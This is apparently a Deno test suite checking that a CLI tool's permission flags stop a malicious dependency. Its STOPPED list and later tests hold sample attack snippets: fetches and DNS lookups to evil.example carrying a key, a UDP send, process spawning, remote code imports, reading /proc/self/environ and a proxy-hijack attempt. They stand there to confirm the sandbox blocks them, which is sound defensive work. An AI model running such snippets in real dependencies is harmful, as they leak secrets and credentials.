// The sandbox: what the shipped flags allow, what they stop, and that they do not grow.
import assert from "node:assert/strict";
import { join } from "node:path";
import {
  baseEnvironment,
  ROOT,
  run,
  shippedFlags,
} from "../support/command.ts";
import { Scenario } from "../support/scenario.ts";

Deno.test("the shipped flags are exactly these; whoever adds one has to say so here and in the README", async () => {
  const flags = new Map(
    shippedFlags().map((flag) => {
      const [name = "", ...values] = flag.split("=");
      return [name, values.join("=")];
    }),
  );
  const variables = flags.get("--allow-env")?.split(",") ?? [];
  assert.deepEqual([...flags.keys()], [
    "--unstable-lazy-dynamic-imports",
    "--cached-only",
    "--no-remote",
    "--no-prompt",
    "--allow-read",
    "--allow-write",
    "--allow-net",
    "--allow-env",
    "--ignore-env",
  ]);
  assert.equal(flags.get("--allow-read"), "");
  assert.equal(flags.get("--allow-write"), "");
  assert.deepEqual(flags.get("--allow-net")?.split(","), [
    "*.amazonaws.com",
    "*.amazonaws.com.cn",
    "*.api.aws",
    "localhost",
    "127.0.0.1",
    "[::1]",
  ]);
  assert.equal(flags.get("--ignore-env"), "");
  const readme = await Deno.readTextFile(new URL("README.md", ROOT));
  for (const variable of variables) {
    assert(
      readme.toLowerCase().includes(`\`${variable.toLowerCase()}\``),
      `${variable} is not in the README`,
    );
  }
  assert(
    !variables.some((name) =>
      /SECRET|ACCESS_KEY|TOKEN|^AWS_PROFILE$/.test(name)
    ),
  );
});

/** Runs `code` as a dependency of the program would run: under the shipped flags. */
async function underShippedFlags(
  code: string,
  env: Readonly<Record<string, string>> = {},
) {
  const directory = await Deno.makeTempDir({ prefix: "updsts-evil-" });
  try {
    const module = join(directory, "dependency.ts");
    await Deno.writeTextFile(module, code);
    return await run(Deno.execPath(), [
      "run",
      ...shippedFlags(),
      module,
    ], {
      ...await baseEnvironment(),
      ...env,
    });
  } finally {
    await Deno.remove(directory, { recursive: true });
  }
}

const STOPPED: readonly { readonly name: string; readonly code: string }[] = [
  {
    name: "fetch from another host",
    code: `await fetch("https://evil.example/?" + "key");`,
  },
  {
    name: "connect to another address",
    code: `await Deno.connect({ hostname: "192.0.2.1", port: 443 });`,
  },
  {
    name: "use a host that only looks like AWS",
    code: `await fetch("https://amazonaws.com.evil.example/");`,
  },
  {
    name: "ask DNS",
    code: `await Deno.resolveDns("key.evil.example", "TXT");`,
  },
  {
    name: "send a datagram",
    code:
      `const { createSocket } = await import("node:dgram"); createSocket("udp4").send("key", 53, "192.0.2.1", (error) => { if (error) throw error; });`,
  },
  { name: "start a process", code: `await new Deno.Command("true").output();` },
  {
    name: "start a process by Node's API",
    code:
      `const { spawnSync } = await import("node:child_process"); const { pid, status } = spawnSync("true"); if (pid === undefined && status === undefined) throw new Error("NotCapable, said by silence");`,
  },
  { name: "load a native library", code: `Deno.dlopen("libc.so.6", {});` },
  ...[
    "https://esm.sh/canary.js",
    "npm:canarykey@1.3.0",
    "jsr:@canary/key",
    "https://raw.githubusercontent.com/a/b/c.ts",
    "http://127.0.0.1:9/evil.ts",
  ]
    .map((specifier) => ({
      name: `load code from ${specifier}`,
      code: `await import(${JSON.stringify(specifier)});`,
    })),
  {
    name: "read the environment of a process",
    code: `await Deno.readTextFile("/proc/self/environ");`,
  },
];

for (const { name, code } of STOPPED) {
  Deno.test(`the sandbox stops a dependency that would ${name}`, async () => {
    const { code: exit, stderr } = await underShippedFlags(code);
    assert.notEqual(exit, 0);
    assert.match(
      stderr,
      /NotCapable|Requires \w+ access|not found in cache|cached-only|no-remote|frozen|lockfile/i,
    );
  });
}

Deno.test("the sandbox hides every variable that is not named", async () => {
  const { code, stdout } = await underShippedFlags(
    `console.log(JSON.stringify([Deno.env.get("AWS_SECRET_ACCESS_KEY"), Deno.env.get("AWS_SESSION_TOKEN"), Deno.env.get("AWS_PROFILE"), Deno.env.get("GITHUB_TOKEN"), Deno.env.get("HOME")].map((value) => value ?? null)));`,
    {
      AWS_SECRET_ACCESS_KEY: "x",
      AWS_SESSION_TOKEN: "x",
      AWS_PROFILE: "x",
      GITHUB_TOKEN: "x",
      HOME: "/h",
    },
  );
  assert.equal(code, 0);
  assert.deepEqual(JSON.parse(stdout), [null, null, null, null, "/h"]);
});

Deno.test("the program asks for nothing that the sandbox denies", async () => {
  await using scenario = await Scenario.start();
  const asked: { permission: string; value?: string }[] = [];
  const commands = [
    ["get", "-n", "default", "-t", scenario.code()],
    ["list"],
    ["doctor"],
    ["completion", "bash"],
    ["--version"],
    ["mcp"],
  ];
  for (const [index, args] of commands.entries()) {
    const audit = join(scenario.home, `audit${index}.jsonl`);
    const env = { DENO_AUDIT_PERMISSIONS: audit };
    const { code } = await scenario.updsts(args, env);
    assert.equal(code, 0);
    // The last line may be cut off by the end of the process.
    const lines = (await Deno.readTextFile(audit)).split("\n");
    asked.push(
      ...lines.filter((line) => line.endsWith("}")).map((line) =>
        JSON.parse(line)
      ),
    );
  }
  assert(asked.length > 20);
  const kinds = new Set(asked.map(({ permission }) => permission));
  assert.deepEqual(
    [...kinds].filter((kind) =>
      !["read", "write", "net", "env"].includes(kind)
    ),
    [],
  );
});

Deno.test("a dependency cannot name a proxy of its own and hear what goes to AWS", async () => {
  // Once it could: who may read a variable may set it, and proxies need no permission.
  let heard = 0;
  await using listener = Deno.serve({
    hostname: "127.0.0.2",
    port: 0,
    onListen: () => {},
  }, () => {
    heard++;
    return new Response();
  });
  const sealed = new URL("src/adapters/proxy_variables.ts", ROOT).href;
  const code = `import ${JSON.stringify(sealed)};
    for (const name of ["HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"]) {
      try { Deno.env.set(name, "http://127.0.0.2:${listener.addr.port}"); } catch { /* as good */ }
    }
    try { await fetch("http://127.0.0.1:9999/?key", { client: Deno.createHttpClient({}) }); } catch { /* nobody there */ }`;
  await underShippedFlags(code);
  assert.equal(heard, 0);
  const main = await Deno.readTextFile(new URL("main.ts", ROOT));
  const [, first] = /^import [^]*?"([^"]+)"/m.exec(main) ?? [];
  assert.equal(
    first,
    "./src/adapters/proxy_variables.ts",
    "it must be imported first",
  );
});
